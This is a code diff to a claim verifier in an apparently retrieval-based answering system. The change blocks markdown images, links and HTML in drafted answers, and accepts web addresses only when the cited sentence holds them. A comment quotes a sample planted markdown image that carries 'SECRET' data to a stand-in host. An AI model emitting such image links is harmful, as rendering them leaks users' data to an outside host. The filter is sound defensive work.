@@ -35,8 +35,12 @@ from .errors import ConfigError
 from .language import arabic_share
 from .quantities import quantities_supported
 
-# Markup a draft must not carry unless the cited sentence does: links, images, HTML.
-_MARKUP = re.compile(r"!\[|\]\(|https?://|www\.|<\s*/?\s*[a-z][a-z0-9]*[\s>/]", re.IGNORECASE)
+# Markdown images and links and HTML tags are never an answer: even copied from a cited
+# sentence, an image URL is fetched by whatever renders the answer (a planted
+# "![صورة](http://host/x?data=SECRET)" would carry data out). A bare address may be an answer
+# ("the ministry's site is www.mofa.gov"), so it needs the cited sentence to hold it.
+MARKUP = re.compile(r"!\[|\]\(|<\s*/?\s*[a-z][a-z0-9]*[\s>/]", re.IGNORECASE)
+_ADDRESS = re.compile(r"https?://\S+|www\.\S+", re.IGNORECASE)
 
 
 @dataclass
@@ -161,10 +165,12 @@ class ClaimVerifier:
 def _blocked(claim: str, sentence: str, question: str) -> str:
     if not tokenize(claim) and not re.search(r"\d", claim):
         return "says nothing"
+    if MARKUP.search(claim):
+        return "a markdown link or image, or HTML"
     if addresses_assistant(sentence):
         return "the sentence addresses the assistant"
-    if _MARKUP.search(claim) and not _MARKUP.search(sentence):
-        return "a link, image or markup the sentence does not hold"
+    if any(address.rstrip(".,;)") not in sentence for address in _ADDRESS.findall(claim)):
+        return "a web address the sentence does not hold"
     if question and restates_question(claim, question, sentence):
         return "restates the question"
     return ""
